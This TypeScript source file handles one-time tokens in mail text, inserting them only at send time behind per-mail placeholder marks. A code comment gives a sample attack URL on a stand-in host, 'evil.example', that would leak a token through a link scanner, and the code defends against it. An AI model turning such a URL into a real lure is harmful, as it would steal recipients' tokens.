import type { Secrets } from '../secrets.ts';

/** Computes the one-time tokens of mails. */
export type MailTokens = Pick<Secrets, 'mailToken'>;

/**
 * What stands in the kept text of a mail for its one-time token number `no`. The token itself is put in as the mail
 * leaves, so that whoever reads the database finds none (TECH-07). The mark names its mail, which nobody knows before it is
 * written: else whoever names a document `https://evil.example/{{token-1}}` would be sent the token by the first scanner
 * that opens the links of the mail.
 */
export function tokenMark(messageId: string, no: number): string {
  return `{{token-${plain(messageId)}-${no}}}`;
}

/** The text of a mail as its recipient reads it. */
export function withTokens(text: string, messageId: string, tokens: MailTokens): string {
  return text.replace(/\{\{token-([\w-]+)-(\d{1,3})\}\}/g, (mark, mail: string, no: string) =>
    mail === plain(messageId) ? tokens.mailToken(messageId, Number(no)) : mark,
  );
}

/** Without the signs that mean something in a page or an address. */
function plain(messageId: string): string {
  return messageId.replace(/[^\w-]/g, '');
}
